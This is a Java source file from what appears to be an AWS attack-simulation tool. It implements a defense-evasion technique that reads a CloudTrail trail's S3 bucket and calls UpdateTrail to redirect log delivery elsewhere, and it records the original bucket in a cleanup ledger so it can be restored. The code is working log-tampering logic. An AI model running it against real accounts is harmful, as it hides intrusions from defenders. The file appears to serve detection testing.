package io.firedrill.injector.technique.defenseevasion;

import io.firedrill.injector.aws.ApiCall;
import io.firedrill.injector.aws.AwsSession;
import io.firedrill.injector.cleanup.Change;
import io.firedrill.injector.cleanup.Ledger;
import io.firedrill.injector.technique.Arns;
import io.firedrill.injector.technique.Grant;
import io.firedrill.injector.technique.IncidentType;
import io.firedrill.injector.technique.Parameters;
import io.firedrill.injector.technique.Technique;
import io.firedrill.injector.technique.TechniqueInfo;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Set;

/** Points a trail's delivery at a bucket the attacker owns: the defenders' copy stops growing. */
public final class CloudTrailRedirectBucket implements Technique<CloudTrailRedirectBucket.Params> {

  /**
   * @param trail the trail's name or ARN
   * @param bucket the bucket to deliver to instead
   */
  public record Params(String trail, String bucket) {}

  private static final TechniqueInfo INFO =
      new TechniqueInfo(
          "aws.defense-evasion.cloudtrail-redirect-bucket",
          "Deliver a trail to another bucket",
          "Reads the trail's bucket (cloudtrail:DescribeTrails), then calls"
              + " cloudtrail:UpdateTrail with a new S3 bucket. The trail keeps logging, but its"
              + " files now land where the defenders do not look.",
          List.of("T1562.008"),
          IncidentType.COMPLIANCE_VARIANCE,
          List.of("DescribeTrails", "UpdateTrail"),
          List.of(),
          List.of("cloudtrail:DescribeTrails", "cloudtrail:UpdateTrail"));

  @Override
  public TechniqueInfo info() {
    return INFO;
  }

  @Override
  public Params parameters(Map<String, String> with) {
    Parameters.allowOnly(with, Set.of("trail", "bucket"));
    return new Params(
        Parameters.required(with, "trail", "the name or ARN of the trail"),
        with.getOrDefault("bucket", "logs-archive-7f3a"));
  }

  @Override
  public List<Grant> grants(Params p, Arns arns) {
    // DescribeTrails lists trails rather than acting on one.
    List<Grant> grants = new ArrayList<>(Grant.on("*", "cloudtrail:DescribeTrails"));
    grants.addAll(Grant.on(arns.trail(p.trail()), "cloudtrail:UpdateTrail"));
    return grants;
  }

  @Override
  public List<ApiCall> detonate(AwsSession session, Params p, Ledger ledger) {
    List<ApiCall> calls = new ArrayList<>();
    List<String> before = new ArrayList<>();
    calls.add(
        session.call(
            "cloudtrail",
            "DescribeTrails",
            () -> {
              var described = session.cloudTrail().describeTrails(r -> r.trailNameList(p.trail()));
              described.trailList().forEach(t -> before.add(t.s3BucketName()));
              return described;
            }));
    if (!"allowed".equals(calls.get(0).outcome())) {
      return calls; // a bucket that cannot be read cannot be put back: the trail is left alone
    }
    if (!before.isEmpty()) {
      ledger.willMake(Change.of(Change.TRAIL_BUCKET, p.trail(), "bucket", before.get(0)));
    }
    // No such trail: the update fails with TrailNotFound, which is part of the story.
    calls.add(
        session.call(
            "cloudtrail",
            "UpdateTrail",
            () ->
                session.cloudTrail().updateTrail(r -> r.name(p.trail()).s3BucketName(p.bucket()))));
    return calls;
  }
}
